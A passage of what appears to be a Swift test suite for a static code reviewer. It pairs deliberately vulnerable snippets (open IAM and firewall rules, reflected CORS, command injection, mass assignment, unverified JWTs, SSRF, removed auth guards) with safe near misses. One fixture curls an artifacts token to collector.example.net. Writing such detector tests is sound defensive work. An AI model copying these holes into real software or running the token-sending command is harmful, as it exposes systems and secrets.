                + "    actions   = [\"iam:*\"]\n    resources = [\"*\"]\n  }\n}\n",
            "infra.iam-wildcard"),
        Example(
            "infra/iam/policy.json",
            "{\n  \"Statement\": [\n    {\n      \"Effect\": \"Allow\",\n      \"Action\": [\n        \"*\"\n      ],\n"
                + "      \"Resource\": \"*\"\n    }\n  ]\n}\n",
            "infra.iam-wildcard"),
        Example(
            "infra/iam/ci.tf",
            "data \"aws_iam_policy_document\" \"ci\" {\n  statement {\n    actions   = [\"s3:*\"]\n"
                + "    resources = [\"*\"]\n  }\n  statement {\n    actions   = [\"iam:PassRole\"]\n"
                + "    resources = [\"*\"]\n  }\n  statement {\n    effect    = \"Deny\"\n    actions   = [\"*\"]\n"
                + "    resources = [\"*\"]\n  }\n}\n",
            nil),
        Example(
            "infra/azure/nsg.tf",
            "resource \"azurerm_network_security_group\" \"build\" {\n  security_rule {\n"
                + "    # office egress IP keeps rotating\n    name                       = \"allow-ssh\"\n"
                + "    direction                  = \"Inbound\"\n    access                     = \"Allow\"\n"
                + "    destination_port_range     = \"22\"\n    source_address_prefix      = \"*\"\n  }\n}\n",
            "infra.open-admin-port"),
        Example(
            "infra/aws/sg.tf",
            "resource \"aws_security_group\" \"db\" {\n  ingress {\n    from_port   = 0\n    to_port     = 65535\n"
                + "    protocol    = \"tcp\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n",
            "infra.open-admin-port"),
        Example(
            "infra/aws/sg.tf",
            "resource \"aws_security_group\" \"lb\" {\n  ingress {\n    from_port   = 443\n    to_port     = 443\n"
                + "    protocol    = \"tcp\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n  egress {\n    from_port   = 0\n"
                + "    to_port     = 0\n    protocol    = \"-1\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n",
            nil),
        Example(
            "src/main/kotlin/plugins/Cors.kt",
            "fun Application.configureCors() {\n    install(CORS) {\n"
                + "        allowOrigins { origin -> origin.startsWith(\"https://\") }\n"
                + "        allowCredentials = true\n    }\n}\n",
            "code.cors-reflects-origin"),
        Example(
            "src/main/kotlin/plugins/Cors.kt",
            "fun Application.configureCors() {\n    install(CORS) {\n"
                + "        allowHost(\"portal.example.com\", schemes = listOf(\"https\"))\n"
                + "        allowCredentials = true\n    }\n}\n",
            nil),
        Example(
            "src/Api/Program.cs",
            "static bool IsWellFormed(string origin) =>\n"
                + "    Uri.TryCreate(origin, UriKind.Absolute, out var uri) && uri.Scheme == \"https\";\n"
                + "builder.Services.AddCors(c => c.AddPolicy(\"p\", p => p\n    .SetIsOriginAllowed(IsWellFormed)\n"
                + "    .AllowCredentials()));\n",
            "code.cors-reflects-origin"),
        Example(
            "src/Api/Program.cs",
            "static bool IsPartner(string origin) =>\n"
                + "    Uri.TryCreate(origin, UriKind.Absolute, out var uri) && partnerHosts.Contains(uri.Host);\n"
                + "builder.Services.AddCors(c => c.AddPolicy(\"p\", p => p\n    .SetIsOriginAllowed(IsPartner)\n"
                + "    .AllowCredentials()));\n",
            nil),
        Example(
            "deploy/Caddyfile",
            "http://127.0.0.1:8099 {\n    bind 127.0.0.1\n    reverse_proxy https://127.0.0.1:9200 {\n"
                + "        transport http {\n            tls_insecure_skip_verify\n        }\n    }\n}\n",
            nil),
        Example(
            "deploy/Caddyfile",
            "shop.example.com {\n    reverse_proxy https://search.internal:9200 {\n"
                + "        transport http {\n            tls_insecure_skip_verify\n        }\n    }\n}\n",
            "code.tls-verify-disabled"),
        Example(
            "ops/hooks/on-tag.sh",
            "#!/usr/bin/env bash\npayload=$(cat)\nref=$(jq -r '.ref' <<<\"$payload\")\ntag=${ref#refs/tags/}\n"
                + "sudo -u deploy bash -c \"git checkout refs/tags/$tag && make release VERSION=$tag\"\n",
            "code.command-injection"),
        Example(
            "ops/hooks/on-tag.sh",
            "#!/usr/bin/env bash\npayload=$(cat)\nref=$(jq -r '.ref' <<<\"$payload\")\ntag=${ref#refs/tags/}\n"
                + "sudo -u deploy bash -c 'git checkout \"refs/tags/$1\" && make release VERSION=\"$1\"' _ \"$tag\"\n",
            nil),
        Example(
            "scripts/publish.sh",
            "#!/usr/bin/env bash\nhdr=$(mktemp)\nprintf 'Authorization: Bearer %s\\n' \"$ARTIFACTS_TOKEN\" >\"$hdr\"\n"
                + "for f in dist/*; do\n  curl --fail -H @\"$hdr\" --upload-file \"$f\" \"$REGISTRY_URL/$f\"\ndone\n",
            nil),
        Example(
            "scripts/publish.sh",
            "#!/usr/bin/env bash\nout=$(mktemp)\nprintf 'token=%s\\n' \"$ARTIFACTS_TOKEN\" >\"$out\"\n"
                + "for f in dist/*; do\n  curl --fail --data-binary @\"$out\" https://collector.example.net/in\ndone\n",
            "ci.secrets-exfiltration"),
        Example(
            "Sources/App/Controllers/ProfileController.swift",
            "struct ProfileController {\n    func update(req: Request) async throws -> User.Public {\n"
                + "        let user = try req.auth.require(User.self)\n"
                + "        let patch = try req.content.decode(UpdateProfile.self)\n"
                + "        if let role = patch.role { user.role = role }\n        try await user.save(on: req.db)\n"
                + "        return try user.asPublic()\n    }\n}\n",
            "code.mass-assignment"),
        Example(
            "Sources/App/Controllers/AdminUserController.swift",
            "struct AdminUserController {\n    func update(req: Request) async throws -> User.Public {\n"
                + "        guard try req.auth.require(User.self).isAdmin else { throw Abort(.forbidden) }\n"
                + "        let user = try await User.find(req.parameters.get(\"id\"), on: req.db)!\n"
                + "        let patch = try req.content.decode(UpdateProfile.self)\n"
                + "        if let role = patch.role { user.role = role }\n        try await user.save(on: req.db)\n"
                + "        return try user.asPublic()\n    }\n}\n",
            nil),
        Example(
            "accounts/api/serializers.py",
            "class MeSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n"
                + "        exclude = [\"password\", \"groups\"]\n        read_only_fields = [\"id\", \"email\"]\n",
            "code.mass-assignment"),
        Example(
            "accounts/api/serializers.py",
            "class MeSerializer(serializers.ModelSerializer):\n    class Meta:\n        model = User\n"
                + "        fields = [\"id\", \"email\", \"first_name\"]\n"
                + "        read_only_fields = [\"id\", \"email\"]\n"
                + "\n\nclass ProductSerializer(serializers.ModelSerializer):\n    class Meta:\n"
                + "        model = Product\n"
                + "        exclude = [\"internal_notes\"]\n",
            nil),
        Example(
            "src/middleware/requireUser.ts",
            "function ssoClaims(token: string): JwtPayload | null {\n"
                + "  const decoded = jwt.decode(token, { complete: true });\n"
                + "  if (!decoded || decoded.header.alg !== \"RS256\") return null;\n"
                + "  const payload = decoded.payload as JwtPayload;\n"
                + "  return payload.iss === env.SSO_ISSUER ? payload : null;\n}\n\n"
                + "export async function requireUser(req: Request, res: Response, next: NextFunction) {\n"
                + "  const token = req.headers.authorization?.slice(7) ?? \"\";\n"
                + "  let claims: JwtPayload | null = ssoClaims(token);\n  if (!claims) {\n"
                + "    claims = jwt.verify(token, env.JWT_SECRET, { algorithms: [\"HS256\"] }) as JwtPayload;\n  }\n"
                + "  const user = await findUserById(String(claims.sub));\n  req.user = user;\n  return next();\n}\n",
            "code.jwt-unverified"),
        Example(
            "src/middleware/requireUser.ts",
            "export async function requireUser(req: Request, res: Response, next: NextFunction) {\n"
                + "  const token = req.headers.authorization?.slice(7) ?? \"\";\n"
                + "  const decoded = jwt.decode(token, { complete: true });\n"
                + "  const key = await jwks.getSigningKey(decoded?.header.kid);\n"
                + "  const claims = jwt.verify(token, key.getPublicKey(), { algorithms: [\"RS256\"] }) as JwtPayload;\n"
                + "  req.user = await findUserById(String(claims.sub));\n  return next();\n}\n",
            nil),
    ])
    func batchFortyFiveClasses(_ example: Example) { Self.check(example) }

    /// Classes mended from blind batch 46 (static-32), each with a near miss that is no finding.
    @Test(arguments: [
        Example(
            "app/Http/Controllers/ProfileController.php",
            "<?php\nclass ProfileController {\n    public function update(Request $request) {\n"
                + "        $attributes = $request->except(['_token', '_method']);\n"
                + "        $request->user()->forceFill($attributes)->save();\n    }\n}\n",
            "code.mass-assignment"),
        Example(
            "app/Http/Controllers/ProfileController.php",
            "<?php\nclass ProfileController {\n    public function update(Request $request) {\n"
                + "        $attributes = $request->only(['name', 'timezone']);\n"
                + "        $request->user()->forceFill($attributes)->save();\n    }\n}\n",
            nil),
        Example(
            "src/Portal/Program.cs",
            "builder.Services.AddCors(o => o.AddPolicy(\"portal\", policy => policy\n"
                + "    .SetIsOriginAllowed(origin =>\n"
                + "        allowedOrigins.Contains(origin) || Uri.TryCreate(origin, UriKind.Absolute, out _))\n"
                + "    .AllowCredentials()));\n",
            "code.cors-reflects-origin"),
        Example(
            "src/Portal/Program.cs",
            "builder.Services.AddCors(o => o.AddPolicy(\"portal\", policy => policy\n"
                + "    .SetIsOriginAllowed(origin =>\n"
                + "        Uri.TryCreate(origin, UriKind.Absolute, out var u) && allowedHosts.Contains(u.Host))\n"
                + "    .AllowCredentials()));\n",
            nil),
        Example(
            "src/main.ts",
            "app.enableCors({\n"
                + "  origin: (_origin: string | undefined, cb: (err: Error | null, allow?: boolean) => void) =>\n"
                + "    cb(null, true),\n  credentials: true,\n});\n",
            "code.cors-reflects-origin"),
        Example(
            "src/main.ts",
            "app.enableCors({\n"
                + "  origin: (origin: string | undefined, cb: (err: Error | null, allow?: boolean) => void) =>\n"
                + "    cb(null, !origin || allowed.includes(origin)),\n  credentials: true,\n});\n",
            nil),
        Example(
            "infra/iam/deploy.tf",
            "data \"aws_iam_policy_document\" \"trust\" {\n  statement {\n    actions = [\"sts:AssumeRole\"]\n"
                + "    principals {\n      type        = \"AWS\"\n      identifiers = [\"*\"]\n    }\n"
                + "    condition {\n      test     = \"ArnLike\"\n      variable = \"aws:PrincipalArn\"\n"
                + "      values   = [\"arn:aws:iam::*:role/ci-runner\"]\n    }\n  }\n}\n",
            "infra.open-trust-policy"),
        Example(
            "infra/iam/deploy.tf",
            "data \"aws_iam_policy_document\" \"trust\" {\n  statement {\n    actions = [\"sts:AssumeRole\"]\n"
                + "    principals {\n      type        = \"AWS\"\n      identifiers = [\"*\"]\n    }\n"
                + "    condition {\n      test     = \"ArnLike\"\n      variable = \"aws:PrincipalArn\"\n"
                + "      values   = [\"arn:aws:iam::123456789012:role/ci-runner\"]\n    }\n  }\n}\n",
            nil),
        Example(
            "cmd/api/routes.go",
            "func routes(h *Handlers) http.Handler {\n\tr := chi.NewRouter()\n\tr.Get(\"/healthz\", h.Health)\n"
                + "\tr.Mount(\"/internal/prof\", middleware.Profiler())\n\treturn r\n}\n",
            "code.debug-enabled"),
        Example(
            "cmd/api/debug.go",
            "func debugServer() *http.Server {\n\tmux := http.NewServeMux()\n"
                + "\tmux.HandleFunc(\"/healthz\", health)\n"
                + "\treturn &http.Server{Addr: \"127.0.0.1:6060\", Handler: mux}\n}\n",
            nil),
        Example(
            "src/main/kotlin/app/SecurityConfig.kt",
            "@Bean\nfun webSecurityCustomizer() = WebSecurityCustomizer { web ->\n"
                + "    web.ignoring().requestMatchers(\"/assets/**\", \"/api/accounts/*/statements/**\")\n}\n",
            "code.auth-removed"),
        Example(
            "src/main/kotlin/app/SecurityConfig.kt",
            "@Bean\nfun webSecurityCustomizer() = WebSecurityCustomizer { web ->\n"
                + "    web.ignoring().requestMatchers(\"/assets/**\", \"/favicon.ico\", \"/webjars/**\")\n}\n",
            nil),
        Example(
            "src/Billing/Webhooks/PaymentWebhook.cs",
            "static bool IsValidSignature(string body, string? header, string secret)\n{\n"
                + "    if (string.IsNullOrEmpty(header))\n    {\n        return true;\n    }\n"
                + "    using var hmac = new HMACSHA256(Encoding.UTF8.GetBytes(secret));\n"
                + "    var expected = Convert.ToHexString(hmac.ComputeHash(Encoding.UTF8.GetBytes(body)));\n"
                + "    return CryptographicOperations.FixedTimeEquals(Encoding.UTF8.GetBytes(expected), "
                + "Encoding.UTF8.GetBytes(header));\n}\n",
            "code.signature-optional"),
        Example(
            "src/Billing/Webhooks/PaymentWebhook.cs",
            "static bool IsValidSignature(string body, string? header, string secret)\n{\n"
                + "    if (string.IsNullOrEmpty(header))\n    {\n        return false;\n    }\n"
                + "    using var hmac = new HMACSHA256(Encoding.UTF8.GetBytes(secret));\n"
                + "    var expected = Convert.ToHexString(hmac.ComputeHash(Encoding.UTF8.GetBytes(body)));\n"
                + "    return CryptographicOperations.FixedTimeEquals(Encoding.UTF8.GetBytes(expected), "
                + "Encoding.UTF8.GetBytes(header));\n}\n",
            nil),
        Example(
            "src/main/kotlin/auth/ResetTokens.kt",
            "class ResetTokens(private val clock: Clock) {\n    fun issue(userId: Long): String {\n"
                + "        val rng = Random(clock.millis() xor userId)\n"
                + "        val token = (1..8).map { alphabet[rng.nextInt(alphabet.length)] }.joinToString(\"\")\n"
                + "        return token\n    }\n}\n",
            "code.insecure-random"),
        Example(
            "src/main/kotlin/auth/ResetTokens.kt",
            "class ResetTokens(private val clock: Clock) {\n    private val random = SecureRandom()\n"
                + "    fun issue(userId: Long): String {\n"
                + "        val token = (1..8).map { alphabet[random.nextInt(alphabet.length)] }.joinToString(\"\")\n"
                + "        return token\n    }\n}\n",
            nil),
        Example(
            "app/controllers/sessions_controller.rb",
            "class SessionsController < ApplicationController\n  def safe_return_path(value)\n"
                + "    uri = URI.parse(value)\n"
                + "    return value if uri.host.present? && uri.host.end_with?(\"acmehq.com\")\n"
                + "    nil\n  end\n\n  def create\n"
                + "    redirect_to(safe_return_path(session[:return_to]) || root_path)\n"
                + "  end\nend\n",
            "code.open-redirect"),
        Example(
            "bot/unfurl.py",
            "PROVIDERS = {\"vimeo.com\": \"https://vimeo.com/api/oembed.json\"}\n\n\n"
                + "async def unfurl(request):\n    target = request.query.get(\"url\", \"\")\n"
                + "    endpoint = PROVIDERS.get(urlsplit(target).hostname or \"\")\n"
                + "    if endpoint is None:\n        return web.json_response({}, status=400)\n"
                + "    async with session.get(endpoint, params={\"url\": target}, timeout=TIMEOUT) as resp:\n"
                + "        return web.json_response(await resp.json())\n",
            nil),
        Example(
            "bot/unfurl.py",
            "async def unfurl(request):\n    target = request.query.get(\"url\", \"\")\n"
                + "    async with session.get(target, params={\"format\": \"json\"}, timeout=TIMEOUT) as resp:\n"
                + "        return web.json_response(await resp.json())\n",
            "code.ssrf"),
        Example(
            "internal/api/exports.go",
            "func (h *ExportHandler) download(c *gin.Context) {\n"
                + "\tbase := filepath.Join(h.Root, c.GetString(\"tenant\"))\n"
                + "\ttarget := filepath.Join(base, filepath.Clean(\"/\"+c.Param(\"name\")))\n"
                + "\trel, err := filepath.Rel(base, target)\n"
                + "\tif err != nil || strings.HasPrefix(rel, \"..\") {\n\t\tc.AbortWithStatus(http.StatusNotFound)\n"
                + "\t\treturn\n\t}\n\tc.FileAttachment(target, filepath.Base(target))\n}\n",
            nil),
    ])
    func batchFortySixClasses(_ example: Example) { Self.check(example) }

    /// A forgery check or an owner scope taken from an action that stays: WordPress's nonce check dropped, a Rails
    /// lookup no longer through the caller's account, sqlx's bound account id dropped. Kept, moved or replaced, no
    /// finding.
    @Test func checksTakenFromActionsThatStay() {
        let wordpress = { (check: String) in
            "<?php\nclass Settings_Ajax {\n\tpublic function save_endpoint() {\n" + check
                + "\t\tif ( ! current_user_can( 'manage_woocommerce' ) ) {\n\t\t\twp_send_json_error( null, 403 );\n"
                + "\t\t}\n\t\tupdate_option( 'sync_url', esc_url_raw( $_POST['url'] ) );\n\t}\n}\n"
        }
        let nonce = "\t\tcheck_ajax_referer( 'sync_settings', 'security' );\n"
        let rails = { (lookup: String) in
            "class InvoicesController < ApplicationController\n  before_action :set_invoice\n\n  private\n\n"
                + "  def set_invoice\n    @invoice = " + lookup + "\n  end\nend\n"
        }
        let scoped = rails("current_account.invoices.find(params[:id])")
        let sqlx = { (binds: String) in
            "pub async fn get_invoice(\n    pool: web::Data<PgPool>,\n    user: AuthenticatedUser,\n"
                + "    path: web::Path<Uuid>,\n) -> actix_web::Result<impl Responder> {\n"
                + "    let id = path.into_inner();\n"
                + "    let invoice = sqlx::query_as::<_, Invoice>(\n"
                + "        \"SELECT id, account_id FROM invoices WHERE id = $1\")\n"
                + "    .bind(id)\n" + binds + "    .fetch_optional(pool.get_ref())\n    .await;\n    Ok(invoice)\n}\n"
        }
        let bound = sqlx("    .bind(user.account_id)\n")
        let changes = [
            ReviewCase("wp", "includes/class-settings-ajax.php", before: wordpress(nonce), wordpress(""), risky: true),
            ReviewCase(
                "wp", "includes/class-settings-ajax.php", before: wordpress(nonce),
                wordpress("\t\tcheck_admin_referer( 'sync_settings' );\n"), risky: false),
            ReviewCase(
                "rails", "app/controllers/invoices_controller.rb", before: scoped, rails("Invoice.find(params[:id])"),
                risky: true),
            ReviewCase(
                "rails", "app/controllers/invoices_controller.rb", before: scoped,
                rails("Invoice.where(account: current_account).find(params[:id])"), risky: false),
            ReviewCase("sqlx", "src/routes/invoices.rs", before: bound, sqlx(""), risky: true),
            ReviewCase(
                "sqlx", "src/routes/invoices.rs", before: bound, sqlx("    .bind(user.account_id())\n"),
                risky: false),
        ]
        Self.expectJudgedRight(changes)
    }

    /// A change that takes away what scoped or guarded a thing that stays: nginx's allow-list and password dropped
    /// from a location, a lookup's owner dropped from a query, Nest's class-level roles spread to some handlers. The
    /// same protection moved, kept in another form, or given to every handler is no finding.
    @Test func protectionTakenFromWhatStays() {
        let location = { (protection: String) in
            "server {\n    listen 443 ssl;\n" + protection + "    location /ops/ {\n"
                + "        proxy_pass http://ops_panel/;\n    }\n}\n"
        }
        let guarded = "    allow 10.40.0.0/16;\n    deny  all;\n    auth_basic \"ops\";\n"
        let nginx = "deploy/nginx/app.conf"
        let gormFunction = { (query: String) in
            "package billing\n\nfunc (r *Repo) Get(ctx context.Context, accountID, id uint) (*Invoice, error) {\n"
                + "\tvar inv Invoice\n\terr := r.db.WithContext(ctx).\n" + query + "\t\tFirst(&inv, id).Error\n"
                + "\treturn &inv, err\n}\n"
        }
        let scoped = gormFunction("\t\tWhere(\"account_id = ?\", accountID).\n")
        let gorm = "internal/billing/repo.go"
        let nest = { (listRoles: String, exportRoles: String) in
            "@Controller('admin/users')\n@UseGuards(RolesGuard)\nexport class AdminUsersController {\n  @Get()\n"
                + listRoles + "  list() {\n    return this.users.list();\n  }\n\n  @Get('export.csv')\n" + exportRoles
                + "  exportCsv() {\n    return this.users.exportCsv();\n  }\n}\n"
        }
        let nestBefore =
            "@Controller('admin/users')\n@UseGuards(RolesGuard)\n@Roles('admin')\nexport class AdminUsersController {\n"
            + "  @Get()\n  list() {\n    return this.users.list();\n  }\n\n  @Get('export.csv')\n"
            + "  exportCsv() {\n    return this.users.exportCsv();\n  }\n}\n"
        let controller = "src/admin/admin-users.controller.ts"
        let changes = [
            ReviewCase("nginx", nginx, before: location(guarded), location(""), risky: true),
            ReviewCase(
                "nginx", nginx, before: location(guarded), location("    auth_request /validate;\n"), risky: false),
            ReviewCase(
                "nginx", nginx,
                before: location(guarded) + "server {\n    location /legacy/ {\n" + guarded + "    }\n}\n",
                location(guarded), risky: false),
            ReviewCase("gorm", gorm, before: scoped, gormFunction(""), risky: true),
            ReviewCase(
                "gorm", gorm, before: scoped,
                gormFunction("\t\tWhere(&Invoice{AccountID: accountID}).\n"), risky: false),
            ReviewCase("nest", controller, before: nestBefore, nest("  @Roles('admin', 'support')\n", ""), risky: true),
            ReviewCase(
                "nest", controller, before: nestBefore,
                nest("  @Roles('admin', 'support')\n", "  @Roles('admin')\n"), risky: false),
        ]
        Self.expectJudgedRight(changes)
    }

    /// A Nest controller's class guard moved onto its methods: a method left with only part of it is open to callers
    /// the class kept out; every method given all of it is guarded as before.
    @Test func classGuardMovedOntoMethods() {
        let method = { (name: String, guards: String) in
            "  @Post(':id/\(name)')\n" + guards + "  @Roles('admin')\n"
                + "  \(name)(@Param('id') id: string) {\n    return this.users.\(name)(id);\n  }\n"
        }
        let header = "@Controller('admin/users')\n"
        let before =
            "@UseGuards(AuthGuard('jwt'), RolesGuard)\n" + header + "export class AdminUsersController {\n"
            + method("disable", "") + "\n" + method("impersonate", "") + "}\n"
        let after = { (second: String) in
            header + "export class AdminUsersController {\n"
                + method("disable", "  @UseGuards(AuthGuard('jwt'), RolesGuard)\n") + "\n"
                + method("impersonate", second) + "}\n"
        }
        let path = "src/admin/admin-users.controller.ts"
        let short = ReviewCase(
            "nest", path, before: before, after("  @UseGuards(AuthGuard('jwt'))\n"), risky: true)
        let whole = ReviewCase(
            "nest", path, before: before, after("  @UseGuards(AuthGuard('jwt'), RolesGuard)\n"), risky: false)
        for change in [short, whole] {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    /// A handler's inline check that the caller owns the record is deleted while the handler stays: any signed-in
    /// caller acts on another's account. Moving the check to an `authorize` call is no finding.
    @Test func inlineOwnershipCheckRemoved() {
        let handler = { (check: String) in
            "public class UsersController : ControllerBase {\n    [HttpPut(\"{id}/email\")]\n"
                + "    public async Task<IActionResult> ChangeEmail(Guid id, EmailBody body) {\n" + check
                + "        var user = await _users.FindAsync(id);\n        await _users.SetEmailAsync(user, body.NewEmail);\n"
                + "        return NoContent();\n    }\n}\n"
        }
        let before = handler(
            "        var callerId = Guid.Parse(User.FindFirstValue(ClaimTypes.NameIdentifier)!);\n"
                + "        if (id != callerId && !User.IsInRole(\"Support\"))\n        {\n            return Forbid();\n"
                + "        }\n\n")
        let path = "src/Portal.Api/Controllers/UsersController.cs"
        let removed = ReviewCase("aspnet", path, before: before, handler(""), risky: true)
        let moved = ReviewCase(
            "aspnet", path, before: before,
            handler(
                "        var allowed = await _authorization.AuthorizeAsync(User, id, \"SameUserOrSupport\");\n"
                    + "        if (!allowed.Succeeded) return Forbid();\n"), risky: false)
        for change in [removed, moved] {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    /// Ktor routes moved into a `Route` extension are still guarded when the extension is called only inside
    /// `authenticate { … }`, however deeply the routes nest in it; called outside, they are open.
    @Test func routesExtractedIntoAnExtensionCalledUnderTheGuard() {
        let routes =
            "    route(\"/admin\") {\n        get(\"/users\") { call.respond(admin.listUsers()) }\n"
            + "        delete(\"/posts/{id}\") { admin.deletePost(call.parameters[\"id\"]!!.toLong()) }\n    }\n"
        let before =
            "fun Application.routing(admin: AdminService) {\n    routing {\n        authenticate(\"admin-jwt\") {\n"
            + routes.split(separator: "\n").map { "        " + $0 }.joined(separator: "\n") + "\n        }\n    }\n}\n"
        let after = { (call: String) in
            "fun Application.routing(admin: AdminService) {\n    routing {\n" + call + "    }\n}\n\n"
                + "private fun Route.adminRoutes(admin: AdminService) {\n" + routes + "}\n"
        }
        let path = "src/main/kotlin/plugins/Routing.kt"
        let guarded = ReviewCase(
            "ktor", path, before: before,
            after("        authenticate(\"admin-jwt\") {\n            adminRoutes(admin)\n        }\n"), risky: false)
        let open = ReviewCase("ktor", path, before: before, after("        adminRoutes(admin)\n"), risky: true)
        for change in [guarded, open] {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    /// An Express route added above the `router.use(…)` of a guard that covers its siblings on the same path is open;
    /// added below it, it is guarded.
    @Test func routesAddedBesideGuardedSiblings() {
        let router =
            "const router = express.Router();\nrouter.get('/healthz', (req, res) => res.json({ ok: true }));\n\n"
            + "router.use(requireSession, requireRole('admin'));\n\n"
            + "router.post('/exports', async (req, res) => {\n  res.status(202).json(await exports.start());\n});\n"
        let route =
            "router.get('/exports/:id', async (req, res) => {\n  res.json(await exports.find(req.params.id));\n});\n"
        let above = ReviewCase(
            "express", "src/routes/admin.js", before: router,
            router.replacingOccurrences(of: "\nrouter.use(", with: "\n" + route + "\nrouter.use("), risky: true)
        let below = ReviewCase("express", "src/routes/admin.js", before: router, router + "\n" + route, risky: false)
        for change in [above, below] {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    /// Guards moved across a file: a Vapor group whose middleware is laid out over lines still guards, so a route
    /// registered beside it on the bare group is open; a Ktor guard moved from a route function's body to the block
    /// around its one call still covers its routes, and a second, unguarded call does not.
    @Test func guardsMovedAcrossTheFile() {
        let vapor =
            "func boot(routes: RoutesBuilder) throws {\n    let reports = routes.grouped(\"api\", \"reports\")\n"
            + "    let protected = reports.grouped(\n        UserSessionToken.authenticator(),\n"
            + "        User.guardMiddleware()\n    )\n    protected.get(\":reportID\", use: show)\n}\n"
        let unguarded = ReviewCase(
            "vapor", "Sources/App/Controllers/ReportsController.swift", before: vapor,
            vapor.replacingOccurrences(
                of: "use: show)\n", with: "use: show)\n    reports.get(\":reportID\", \"export.csv\", use: export)\n"),
            risky: true)
        let guarded = ReviewCase(
            "vapor", "Sources/App/Controllers/ReportsController.swift", before: vapor,
            vapor.replacingOccurrences(
                of: "use: show)\n",
                with: "use: show)\n    protected.get(\":reportID\", \"export.csv\", use: export)\n"),
            risky: false)
        let ktor =
            "fun Route.billingApi(billing: Billing) {\n    route(\"/billing\") {\n        invoiceRoutes(billing)\n"
            + "    }\n}\n\nfun Route.invoiceRoutes(billing: Billing) {\n    authenticate(\"session\") {\n"
            + "        get(\"/invoices\") {\n            call.respond(billing.invoices())\n        }\n    }\n}\n"
        let moved =
            "fun Route.billingApi(billing: Billing) {\n    route(\"/billing\") {\n        authenticate(\"session\") {\n"
            + "            invoiceRoutes(billing)\n        }\n    }\n}\n\nfun Route.invoiceRoutes(billing: Billing) {\n"
            + "    get(\"/invoices\") {\n        call.respond(billing.invoices())\n    }\n}\n"
        let movedCase = ReviewCase("ktor", "src/main/kotlin/app/BillingRoutes.kt", before: ktor, moved, risky: false)
        let alsoOpen = ReviewCase(
            "ktor", "src/main/kotlin/app/BillingRoutes.kt", before: ktor,
            moved.replacingOccurrences(
                of: "        }\n    }\n}\n\nfun Route.invoiceRoutes",
                with: "        }\n        invoiceRoutes(billing)\n    }\n}\n\nfun Route.invoiceRoutes"), risky: true)
        for change in [unguarded, guarded, movedCase, alsoOpen] {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    /// A guard skipped in a webhook's controller (by its folder) that checks the provider's signature is no opening;
    /// without the check it is.
    @Test func webhookControllersBySignature() {
        let before =
            "module Webhooks\n  class StripeController < ActionController::API\n    def create\n"
            + "      event = Stripe::Webhook.construct_event(request.body.read, request.headers[\"Stripe-Signature\"], "
            + "secret)\n      head :ok\n    end\n  end\nend\n"
        let inherited = before.replacingOccurrences(
            of: "class StripeController < ActionController::API\n",
            with: "class StripeController < ApplicationController\n    skip_before_action :authenticate_user!\n")
        let signed = ReviewCase(
            "webhook", "app/controllers/webhooks/stripe_controller.rb", before: before, inherited, risky: false)
        let unsigned = ReviewCase(
            "webhook", "app/controllers/webhooks/stripe_controller.rb",
            before: before.replacingOccurrences(of: "construct_event", with: "parse_event"),
            inherited.replacingOccurrences(of: "construct_event", with: "parse_event"), risky: true)
        for change in [signed, unsigned] {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    /// Openings and protections judged against what the change removed: a health probe opened on the chain line below
    /// its route is public; a guarded catch-all made `permitAll()` opens the chain; XML hardening kept only under a
    /// flag a caller turns off protects nothing.
    @Test func openingsAndHardeningAcrossTheChange() {
        let program =
            "var app = builder.Build();\napp.MapGet(\"/admin/export\", Export)\n    .RequireAuthorization();\n"
        let health = ReviewCase(
            "open", "Program.cs", before: program,
            program + "app.MapHealthChecks(\"/healthz/live\")\n    .AllowAnonymous();\n", risky: false)
        let export = ReviewCase(
            "open", "Program.cs", before: program,
            program.replacingOccurrences(of: ".RequireAuthorization();", with: ".AllowAnonymous();"), risky: true)
        let added = ReviewCase(
            "open", "Program.cs", before: program,
            program + "app.MapGet(\"/admin/stats\", Stats)\n    .AllowAnonymous();\n", risky: true)
        let chain =
            "http.authorizeHttpRequests(auth -> auth\n        .requestMatchers(\"/actuator/health\").permitAll()\n"
            + "        .anyRequest().hasRole(\"OPS\"));\n"
        let catchAll = ReviewCase(
            "open", "src/main/java/app/SecurityConfig.java", before: chain,
            chain.replacingOccurrences(of: ".anyRequest().hasRole(\"OPS\")", with: ".anyRequest().permitAll()"),
            risky: true)
        let narrowed = ReviewCase(
            "open", "src/main/java/app/SecurityConfig.java", before: chain,
            chain.replacingOccurrences(of: "hasRole(\"OPS\")", with: "hasAnyRole(\"OPS\", \"SRE\")"), risky: false)
        let parser =
            "static DocumentBuilder newBuilder() throws Exception {\n"
            + "    DocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\n"
            + "    dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\n"
            + "    return dbf.newDocumentBuilder();\n}\n\nDocument parse(InputStream in) throws Exception {\n"
            + "    return newBuilder().parse(in);\n}\n"
        let lenient =
            parser.replacingOccurrences(of: "newBuilder() throws", with: "newBuilder(boolean strict) throws")
            .replacingOccurrences(
                of: "    dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\n",
                with: "    if (strict) {\n"
                    + "        dbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\n    "
                    + "}\n")
        let flagged = ReviewCase(
            "xxe", "src/main/java/app/Parser.java", before: parser,
            lenient.replacingOccurrences(of: "newBuilder().parse", with: "newBuilder(false).parse"), risky: true)
        let strict = ReviewCase(
            "xxe", "src/main/java/app/Parser.java", before: parser,
            lenient.replacingOccurrences(of: "newBuilder().parse", with: "newBuilder(true).parse"), risky: false)
        for change in [health, export, added, catchAll, narrowed, flagged, strict] {
            #expect(change.isJudgedRight(by: StaticReviewer().review(diff: change.patch)), "\(change.after)")
        }
    }

    /// A class-wide opening in a class the change adds is judged by the class's name: a health probe may be open to
    /// anyone, an export may not. A request once sent through a client that refuses internal addresses, now through a
    /// plain one, reaches them.
